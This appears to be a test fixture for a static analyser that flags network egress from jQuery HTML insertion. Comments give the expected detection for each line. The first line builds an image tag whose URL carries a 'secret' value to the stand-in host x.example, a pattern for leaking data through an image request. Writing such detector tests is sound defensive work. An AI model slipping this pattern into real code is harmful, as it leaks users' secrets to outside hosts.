import jQuery from "jquery";

jQuery("#a").html(`<img src="https://x.example/?${source()}">`); // row: egress image GET external https://x.example/? https://x.example/?{} <- secret url
jQuery("#a").append("<p>nothing</p>");
jQuery("#a").prepend('<iframe src="https://x.example/"></iframe>'); // row: egress frame GET external https://x.example/
jQuery("#a").before('<img src="https://x.example/">'); // row: egress image GET external https://x.example/
jQuery("#a").after('<img src="https://x.example/">'); // row: egress image GET external https://x.example/
jQuery("#a").replaceWith('<img src="https://x.example/">'); // row: egress image GET external https://x.example/
